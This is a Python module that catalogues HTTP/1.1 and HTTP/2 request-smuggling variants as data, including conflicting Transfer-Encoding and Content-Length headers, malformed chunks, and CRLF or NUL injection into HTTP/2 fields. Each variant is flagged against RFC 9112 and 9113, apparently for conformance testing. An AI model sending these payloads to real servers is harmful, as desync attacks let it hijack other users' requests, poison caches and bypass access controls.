"""Requests that two parsers may read differently, as data: HTTP/1.1 bytes and HTTP/2 header lists.

Sources: RFC 9112 sections 5 to 7 and 11.2, RFC 9113 section 8, the names used by PortSwigger's HTTP/2 research.
"""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass

__all__ = ["CONTROL_CHARACTERS", "HTTP1", "HTTP2", "Http1Attack", "Http2Attack"]

CHUNKED = b"transfer-encoding: chunked"


@dataclass(frozen=True, slots=True)
class Http1Attack:
    """Lines of a head, and a body around a second request; `must` where RFC 9112 demands a refusal."""

    name: str
    lines: Callable[[bytes], list[bytes]]  # of the second request
    body: Callable[[bytes], bytes]
    must: bool = False
    version: bytes = b"HTTP/1.1"
    in_body: bool = False  # an application that reads no body may have answered before it shows


@dataclass(frozen=True, slots=True)
class Http2Attack:
    """Fields to add or, for pseudo-fields, to replace; a body around a second request; `must` as RFC 9113 has it."""

    name: str
    fields: Callable[[str], list[tuple[str, str]]]  # of the lines of the second request
    body: Callable[[bytes], bytes] | None = None
    must: bool = False


def _length(body: bytes) -> bytes:
    return b"content-length: " + str(len(body)).encode()


def _as_is(second: bytes) -> bytes:
    return second


def _after_last_chunk(second: bytes) -> bytes:
    return b"0\r\n\r\n" + second


def _te(name: str, line: bytes, must: bool = False) -> Http1Attack:
    """A Transfer-Encoding that one parser takes for chunked and the other does not."""
    return Http1Attack(name, lambda second: [_length(_after_last_chunk(second)), line], _after_last_chunk, must)


def _cl(name: str, line: bytes, must: bool = True) -> Http1Attack:
    """A Content-Length that one parser takes for 0 or nothing."""
    return Http1Attack(name, lambda second: [line.replace(b"N", str(len(second)).encode())], _as_is, must)


def _chunk(name: str, chunks: bytes) -> Http1Attack:
    """A chunk that one parser reads to another end."""
    return Http1Attack(name, lambda second: [CHUNKED], lambda second: chunks + second, must=True, in_body=True)


HTTP1 = (
    _te("CL.TE", CHUNKED),
    Http1Attack("TE.CL", lambda second: [CHUNKED, b"content-length: 3"], lambda second: b"%x\r\n%b\r\n0\r\n\r\n" % (len(second), second)),
    _te("TE: xchunked", b"transfer-encoding: xchunked"),
    _te("TE: identity", b"transfer-encoding: identity"),
    _te("TE: chunked, chunked", b"transfer-encoding: chunked, chunked"),
    _te("TE: , chunked", b"transfer-encoding: , chunked"),
    _te("TE: gzip, chunked", b"transfer-encoding: gzip, chunked"),
    _te("TE twice", CHUNKED + b"\r\ntransfer-encoding: identity"),
    _te("TE with a tab before it", b"transfer-encoding: \x0bchunked", must=True),
    _te("TE folded", b"transfer-encoding:\r\n chunked"),
    _te("space before the colon", b"transfer-encoding : chunked", must=True),
    _te("TE with an underscore", b"transfer_encoding: chunked"),
    _te("bare LF in a line", b"x: y\ntransfer-encoding: chunked"),
    _te("bare CR in a value", b"x: y\rtransfer-encoding: chunked"),
    Http1Attack("TE in HTTP/1.0", lambda second: [_length(_after_last_chunk(second)), CHUNKED], _after_last_chunk,
                version=b"HTTP/1.0"),
    _cl("CL: +N", b"content-length: +N"),
    _cl("CL: N, 0", b"content-length: N, 0"),
    _cl("CL twice", b"content-length: N\r\ncontent-length: 0"),
    _cl("CL: N N", b"content-length: N N"),
    _cl("CL: 0xN", b"content-length: 0xN"),
    _cl("CL with an underscore", b"content_length: N", must=False),
    _cl("GET with a body", b"content-length: N", must=False),
    _chunk("chunk size 0x0", b"0x0\r\n\r\n"),
    _chunk("chunk size -0", b"-0\r\n\r\n"),
    _chunk("chunk that spills", b"1\r\naX0\r\n\r\n"),
    Http1Attack("chunk extension with a bare LF", lambda second: [CHUNKED], lambda second: b"1;a\nb\r\n0\r\n\r\n" + second),
    Http1Attack("Upgrade: websocket with a body",
                lambda second: [_length(second), b"connection: upgrade", b"upgrade: websocket"], _as_is),

)  # fmt: skip
# What RFC 9110 section 5.5 permits to refuse or to replace by a space; either way it must not travel on.
CONTROL_CHARACTERS = (_te("NUL in a value", b"x: y\0z"), _te("CR in a value", b"x: y\rz"), _te("CR at the end", b"x: y\r\r"))


def _value(text: str) -> Callable[[str], list[tuple[str, str]]]:
    return lambda lines: [("x", text.replace("LINES", lines))]


def _is(*fields: tuple[str, str]) -> Callable[[str], list[tuple[str, str]]]:
    return lambda lines: [(name.replace("LINES", lines), value.replace("LINES", lines)) for name, value in fields]


HTTP2 = (
    Http2Attack("H2.CL", _is(("content-length", "0")), _as_is),
    Http2Attack("H2.CL too long", _is(("content-length", "100000")), _as_is),
    Http2Attack("H2.CL twice", _is(("content-length", "0"), ("content-length", "5")), _as_is),
    Http2Attack("H2.TE", _is(("transfer-encoding", "chunked")), _after_last_chunk),
    Http2Attack("H2.TE with a space", _is(("transfer-encoding ", "chunked")), _after_last_chunk),
    Http2Attack("H2.TE in upper case", _is(("Transfer-Encoding", "chunked")), _after_last_chunk),
    Http2Attack("te: chunked", _is(("te", "chunked")), _after_last_chunk),
    Http2Attack("CRLF in a value", _value("y\r\ntransfer-encoding: chunked"), _after_last_chunk, must=True),
    Http2Attack("LF in a value", _value("y\ntransfer-encoding: chunked"), _after_last_chunk, must=True),
    Http2Attack("a request in a value", _value("y\r\n\r\nGET /second HTTP/1.1\r\nLINES\r\n\r\n"), must=True),
    Http2Attack("NUL in a value", _value("y\0z"), must=True),
    Http2Attack("CRLF in a name", _is(("x: y\r\ntransfer-encoding", "chunked")), _after_last_chunk, must=True),
    Http2Attack("colon in a name", _is(("transfer-encoding: chunked\r\nx", "y")), _after_last_chunk, must=True),
    Http2Attack("CRLF in :path", _is((":path", "/ HTTP/1.1\r\nLINES\r\nx: y"))),
    Http2Attack("space in :path", _is((":path", "/second HTTP/1.1"))),
    Http2Attack(":path without a slash", _is((":path", "second"))),
    Http2Attack("CRLF in :method", _is((":method", "GET /second HTTP/1.1\r\nLINES\r\nx: y"))),
    Http2Attack("space in :method", _is((":method", "GET /second HTTP/1.1"))),
    Http2Attack("CRLF in :authority", _is((":authority", "a.test\r\nLINES\r\nx: y"))),
    Http2Attack("CRLF in :scheme", _is((":scheme", "http\r\nLINES\r\nx: y"))),
    Http2Attack("connection", _is(("connection", "x-forwarded-for, x-forwarded-proto"))),
    Http2Attack("keep-alive", _is(("keep-alive", "1"))),
    Http2Attack("upgrade", _is(("upgrade", "websocket"), ("sec-websocket-key", "dGhlIHNhbXBsZSBub25jZQ=="))),
    Http2Attack("host that differs", _is(("host", "evil.test"))),
)  # fmt: skip
